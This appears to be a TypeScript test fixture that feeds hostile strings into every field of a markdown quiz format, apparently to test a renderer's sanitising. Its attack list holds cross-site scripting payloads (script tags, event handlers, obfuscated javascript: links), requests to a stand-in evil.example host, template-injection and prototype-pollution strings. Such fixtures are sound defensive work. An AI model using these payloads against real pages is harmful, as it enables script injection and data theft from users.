import { readFileSync } from 'node:fs';

/** Texts that have broken programs: `big-list-of-naughty-strings`. */
const naughty = JSON.parse(
	readFileSync('node_modules/big-list-of-naughty-strings/blns.json', 'utf8')
) as readonly string[];

/** Every example of `commonmark-spec`: raw HTML, comments, links and images of all spellings. */
const examples = [
	...readFileSync('node_modules/commonmark-spec/spec.txt', 'utf8').matchAll(
		/^`{32} example\n([\s\S]*?)^\.\n[\s\S]*?^`{32}$/gmu
	)
].map(([, markdown = '']) => markdown.replaceAll('→', '\t'));

const payload = 'window.top.escaped=1';

/** What would set `escaped` on the window, or send something away, if any of it were run or loaded. */
const attacks = [
	`<script>${payload}</script>`,
	`<img src=x onerror="${payload}">`,
	`<svg onload="${payload}"><animate onbegin="${payload}" attributeName=x dur=1s></svg>`,
	`<svg><script href="data:text/javascript,${payload}"></script></svg>`,
	`<iframe srcdoc="<script>${payload}</script>"></iframe>`,
	`<math><mtext></p><img src=x onerror=${payload}></mtext></math>`,
	`<style>@import 'https://evil.example/a.css'; * { background: url(https://evil.example/b) }</style>`,
	`<base href="https://evil.example/"><form action="https://evil.example/"><input autofocus onfocus=${payload}>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`[here](javascript:${payload})`,
	`[here](JaVaScRiPt:${payload})`,
	`[here](java\tscript:${payload})`,
	`[here](&#106;avascript:${payload})`,
	`[here](data:text/html,<script>${payload}</script>)`,
	`[here](vbscript:${payload})`,
	`[here](https://good.example@evil.example/)`,
	`![picture](https://evil.example/who-reads.png)`,
	`![picture](data:image/svg+xml,<svg onload="${payload}"/>)`,
	`![picture](//evil.example/a.png)`,
	`<https://evil.example/a>`,
	`<a href="javascript:${payload}">here</a>`,
	`{{${payload}}} {@html '<script>${payload}</script>'}`,
	`\${${payload}} #{${payload}} <%= ${payload} %>`,
	`__proto__`,
	`constructor`
];

export const hostileTexts: readonly string[] = [...attacks, ...naughty, ...examples];

/** A file in which each of the texts stands in every place that takes a text. */
export function hostileFile(texts: readonly string[]): string {
	return [
		...(texts[0] === undefined ? [] : headerOf(oneLine(texts[0]))),
		'# Article',
		'',
		...texts.flatMap((text) => [text, '']),
		...texts.flatMap((text) => [...questionsOf(oneLine(text)), ''])
	].join('\n');
}

function headerOf(text: string): readonly string[] {
	return [
		`Title: ${text}`,
		`Author: ${text}`,
		`Licence: ${text}`,
		`Source: ${text}`,
		`Description: ${text}`,
		`Tags: ${text}`,
		''
	];
}

function oneLine(text: string): string {
	return text.replace(/[\r\n\u2028\u2029]+/gu, ' ').trim();
}

function questionsOf(text: string): readonly string[] {
	return [
		`Q: ${text}`,
		`[x] ${text}`,
		`> ${text}`,
		`[ ] not ${text}`,
		`Hint: ${text}`,
		`Explanation: ${text}`,
		`Evidence: "${text}"`,
		`Tags: ${text}`,
		'',
		`Q: 1 ${text}`,
		`= ${text}`,
		`!= no ${text}`,
		'',
		`Q: 2 ${text}`,
		'= 5 ± 1',
		'',
		`Fill: ${text} {${text}|x} and {(x) ${text} ( ) y}`,
		'',
		`Q: 3 ${text}`,
		`${text} -> a ${text}`,
		`b -> ${text}`,
		'',
		`Q: 4 ${text}`,
		`1. ${text}`,
		`2. and ${text}`,
		'',
		`Q: 5 ${text}`,
		`A: ${text}`,
		'',
		`Q: 6 ${text}`,
		`Model: ${text}`,
		`Criteria: ${text}; more ${text}`
	];
}
